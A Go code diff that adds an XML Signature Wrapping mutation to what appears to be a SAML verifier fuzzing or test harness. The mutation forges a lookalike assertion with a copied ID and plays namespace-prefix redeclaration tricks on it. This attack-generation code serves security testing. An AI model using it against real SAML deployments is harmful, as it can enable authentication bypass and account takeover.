@@ -673,6 +673,32 @@ var attackOps = []attackOp{
 		insertAt(root, e, 1)
 		return root
 	}},
+	{"prefix-redeclared-lookalike", func(s *xswScript, root, evil *etree.Element) *etree.Element {
+		// a forged sibling under a prefix that is foreign where it stands (declared on the Response as something else) while the same
+		// prefix is bound to the SAML assertion namespace further down the document: code that re-serialises the whole document with
+		// hoisted declarations, or reads the Response through another parser than the one that located the assertion, sees two assertions
+		e := evil.Copy()
+		e.Space = "evil"
+		pos := len(root.Child)
+		if a := firstAssertion(root); a != nil {
+			if id := a.SelectAttrValue("ID", ""); id != "" && s.c.chance(0.7) {
+				e.RemoveAttr("ID")
+				e.CreateAttr("ID", id)
+			}
+			pos = a.Index()
+			if s.c.chance(0.5) {
+				pos++
+			}
+		}
+		root.CreateAttr("xmlns:evil", "urn:example:nothing")
+		insertAt(root, e, pos)
+		ext := etree.NewElement("Extensions")
+		ext.Space = root.Space
+		x := ext.CreateElement("evil:x")
+		x.CreateAttr("xmlns:evil", "urn:oasis:names:tc:SAML:2.0:assertion")
+		root.AddChild(ext)
+		return root
+	}},
 	{"unprefixed-foreign-lookalike", func(s *xswScript, root, evil *etree.Element) *etree.Element {
 		// an element with a SAML/dsig local name in a foreign *default* namespace (no prefix at all)
 		tag := s.c.pick("Signature", "Assertion", "EncryptedAssertion", "Signature")
